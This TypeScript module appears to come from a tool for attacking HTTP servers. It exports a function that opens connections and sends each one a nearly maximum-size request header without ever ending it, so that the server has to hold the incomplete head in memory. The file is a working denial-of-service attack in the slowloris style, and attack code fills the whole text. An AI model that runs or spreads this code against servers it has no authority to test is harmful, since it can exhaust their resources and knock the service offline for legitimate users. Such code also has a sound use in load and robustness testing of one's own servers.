import { type AttackOptions, onEachConnection, write } from "./attack.ts";

/** Size in bytes, just below the server's limit, so that the server must keep the head in memory. */
const size = 30 * 1024;

/** Sends heads that are nearly as large as the server allows, and doesn't end them. */
export function largeHeads(options: AttackOptions): Promise<void> {
  const { path = "/" } = options;
  return onEachConnection(options, async (socket) => {
    await write(socket, `GET ${path} HTTP/1.1\r\nHost: x\r\nX: ${"x".repeat(size)}`);
  });
}
